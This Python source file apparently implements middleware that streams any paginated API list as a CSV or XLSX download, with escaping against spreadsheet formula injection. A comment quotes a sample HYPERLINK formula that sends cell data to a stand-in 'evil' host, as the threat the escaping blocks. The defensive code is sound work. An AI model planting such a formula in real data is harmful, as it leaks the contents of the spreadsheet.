"""Every list as a file: `?format=csv` or `?format=xlsx` (or `Accept: text/csv`, or the xlsx media type) on any
GET that answers a list, with its filters as given.

One mechanism for every service, below the routes: the request goes to the route as JSON, page after page
(its own `limit` at most, following `next_cursor`), and each page's rows go out as they come, so the file holds
the whole filtered list, not one page, and a large one is not held in memory as CSV. Nested objects become
dotted columns (`ageing.1-30`), lists of plain values are joined with "; ", lists of objects are written as
JSON. XLSX (openpyxl's write-only mode) is built as the pages come and sent once complete; decimals and dates
are real numbers and dates there, identifiers and tax ids stay text.
"""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Callable
from datetime import date
from decimal import Decimal
from typing import Any
from urllib.parse import parse_qsl, urlencode

from mercator.common.http.errors import PROBLEM

CSV = "text/csv"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
FORMATS = {"csv": CSV, "xlsx": XLSX}
PAGE = "200"  # the largest page every list takes
_DECIMAL = re.compile(r"-?\d+\.\d+")
_DAY = re.compile(r"\d{4}-\d{2}-\d{2}")
# What a spreadsheet program takes for the start of a formula (OWASP "CSV injection"): a client named
# `=HYPERLINK("http://evil/?"&A1,"Open")` would run in the head of sales' Excel.
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# A number, or phone numbers (+7 495 123-45-67; several joined with "; "): no name, call or reference in them,
# so nothing a spreadsheet could run, and an apostrophe would spoil them for whoever sums or dials them.
_PLAIN = re.compile(r"-?\d+(\.\d+)?|\+\d[\d\s().-]*(;\s*\+?\d[\d\s().-]*)*")


def spreadsheet_safe(value: str) -> str:
    """Text a spreadsheet program shows as text: one that would start a formula gets a leading apostrophe
    (what Excel itself writes for text typed with one). Numbers and phone numbers stay as they are."""
    if value.startswith(_FORMULA_START) and not _PLAIN.fullmatch(value):
        return "'" + value
    return value


def wanted_format(query: list[tuple[str, str]], accept: str) -> str | None:
    for key, value in query:
        if key == "format":
            return value.lower()
    accepted = [part.split(";")[0].strip().lower() for part in accept.split(",")]
    for name, media in FORMATS.items():
        if media in accepted:
            return name
    return None


def flatten(item: Any, prefix: str = "") -> dict[str, Any]:
    if not isinstance(item, dict):
        return {prefix or "value": item}
    out: dict[str, Any] = {}
    for key, value in item.items():
        name = f"{prefix}.{key}" if prefix else str(key)
        if isinstance(value, dict):
            out.update(flatten(value, name))
        elif isinstance(value, list):
            out[name] = (
                "; ".join("" if v is None else str(v) for v in value)
                if all(not isinstance(v, dict | list) for v in value)
                else json.dumps(value, ensure_ascii=False)
            )
        else:
            out[name] = value
    return out


def cell(value: Any) -> Any:
    """A JSON value as a spreadsheet cell: money and quantities as numbers, days as dates."""
    if isinstance(value, str):
        if _DECIMAL.fullmatch(value):
            return Decimal(value)
        if _DAY.fullmatch(value):
            try:
                return date.fromisoformat(value)
            except ValueError:
                return value
    return value


def text(value: Any) -> str:
    if value is None:
        return ""
    if value is True or value is False:
        return "true" if value else "false"
    return spreadsheet_safe(str(value))


def rows_of(body: Any) -> tuple[list | None, str | None]:
    """The items of one answer and the cursor of the next page: a `Page`, a bare list, or an object with one
    list (a report's `rows`)."""
    if isinstance(body, list):
        return body, None
    if isinstance(body, dict):
        if isinstance(body.get("items"), list):
            return body["items"], body.get("next_cursor")
        lists = [v for v in body.values() if isinstance(v, list)]
        if len(lists) == 1:
            return lists[0], None
    return None, None


class _Sheet:
    """Where the rows go: CSV text sent as it is written, or an XLSX workbook sent at the end."""

    def __init__(self, fmt: str):
        self.fmt = fmt
        self.columns: list[str] | None = None
        if fmt == "xlsx":
            from openpyxl import Workbook

            self.book = Workbook(write_only=True)
            self.sheet = self.book.create_sheet("export")
        else:
            self.buffer = io.StringIO()
            self.writer = csv.writer(self.buffer)
            self.buffer.write("\ufeff")  # so spreadsheet programs read the Cyrillic as UTF-8

    def add(self, items: list) -> bytes:
        flat = [flatten(i) for i in items]
        if self.columns is None:
            self.columns = list(dict.fromkeys(k for row in flat for k in row))
            self._write(self.columns, header=True)
        for row in flat:
            self._write([row.get(c) for c in self.columns])
        return self._take()

    def _write(self, values: list, header: bool = False) -> None:
        if self.fmt == "xlsx":
            self.sheet.append(
                [
                    self._text_cell(v) if isinstance(v, str) else v
                    for v in (values if header else [cell(v) for v in values])
                ]
            )
        else:
            self.writer.writerow([text(v) for v in values])

    def _text_cell(self, value: str):
        # openpyxl writes any string that starts with "=" as a formula; a text cell stays text whatever it holds.
        from openpyxl.cell import WriteOnlyCell

        c = WriteOnlyCell(self.sheet, value=value)
        c.data_type = "s"
        return c

    def _take(self) -> bytes:
        if self.fmt == "xlsx":
            return b""
        out = self.buffer.getvalue().encode()
        self.buffer.seek(0)
        self.buffer.truncate()
        return out

    def close(self) -> bytes:
        if self.columns is None:
            self.add([])  # an empty list is still a file, with no columns
        if self.fmt == "xlsx":
            out = io.BytesIO()
            self.book.save(out)
            return out.getvalue()
        return self._take()


class ExportMiddleware:
    """`skip(path)`: paths this app only forwards (the gateway's), exported by the service that owns them."""

    def __init__(self, app, skip: Callable[[str], bool] | None = None):
        self.app = app
        self.skip = skip or (lambda _path: False)

    async def __call__(self, scope, receive, send):
        if scope["type"] != "http" or scope["method"] != "GET" or self.skip(scope["path"]):
            return await self.app(scope, receive, send)
        query = parse_qsl(scope.get("query_string", b"").decode("latin-1"), keep_blank_values=True)
        headers = {k.decode("latin-1").lower(): v.decode("latin-1") for k, v in scope.get("headers", [])}
        fmt = wanted_format(query, headers.get("accept", ""))
        if fmt is None:
            return await self.app(scope, receive, send)
        if fmt not in FORMATS:
            return await _problem(send, 422, "format", f"format {fmt!r} is not one of csv, xlsx")
        query = [(k, v) for k, v in query if k != "format"]
        if not any(k == "limit" for k, _ in query):
            query.append(("limit", PAGE))
        plain_headers = [(k, v) for k, v in scope.get("headers", []) if k.lower() != b"accept"]
        plain_headers.append((b"accept", b"application/json"))
        sheet, started, cursor = _Sheet(fmt), False, None
        while True:
            # The first page as asked (a caller's own cursor too), then each next one.
            page_query = query if not started else [(k, v) for k, v in query if k != "cursor"] + [("cursor", cursor)]
            page = dict(scope, query_string=urlencode(page_query).encode(), headers=plain_headers)
            status, answer_headers, body = await _call(self.app, page)
            if status != 200:
                if started:  # the file is half sent: end it short rather than pass an error off as rows
                    return await send({"type": "http.response.body", "body": b"", "more_body": False})
                return await _replay(send, status, answer_headers, body)
            try:
                items, cursor = rows_of(json.loads(body))
            except ValueError:
                items = None
            if items is None:
                return await _problem(
                    send, 406, "format", "this resource is not a list; only lists export as csv or xlsx"
                )
            chunk = sheet.add(items)
            if not started:
                name = scope["path"].rstrip("/").rsplit("/", 1)[-1] or "export"
                await send(
                    {
                        "type": "http.response.start",
                        "status": 200,
                        "headers": [
                            (b"content-type", (FORMATS[fmt] + ("; charset=utf-8" if fmt == "csv" else "")).encode()),
                            (b"content-disposition", f'attachment; filename="{name}.{fmt}"'.encode()),
                        ],
                    }
                )
                started = True
            if chunk:
                await send({"type": "http.response.body", "body": chunk, "more_body": True})
            if not cursor:
                break
        await send({"type": "http.response.body", "body": sheet.close(), "more_body": False})


async def _call(app, scope) -> tuple[int, list, bytes]:
    sent = False

    async def receive():
        nonlocal sent
        if not sent:
            sent = True
            return {"type": "http.request", "body": b"", "more_body": False}
        return {"type": "http.disconnect"}

    status, headers, chunks = 500, [], []

    async def capture(message):
        nonlocal status, headers
        if message["type"] == "http.response.start":
            status, headers = message["status"], message.get("headers", [])
        elif message["type"] == "http.response.body":
            chunks.append(message.get("body", b""))

    await app(scope, receive, capture)
    return status, headers, b"".join(chunks)


async def _replay(send, status: int, headers: list, body: bytes) -> None:
    await send({"type": "http.response.start", "status": status, "headers": headers})
    await send({"type": "http.response.body", "body": body, "more_body": False})


async def _problem(send, status: int, field: str, message: str) -> None:
    title = "Invalid request" if status == 422 else "Not acceptable"
    body = json.dumps(
        {
            "type": "about:blank",
            "title": title,
            "status": status,
            "detail": message,
            "errors": [{"field": field, "message": message}],
        }
    ).encode()
    await _replay(
        send, status, [(b"content-type", PROBLEM.encode()), (b"content-length", str(len(body)).encode())], body
    )
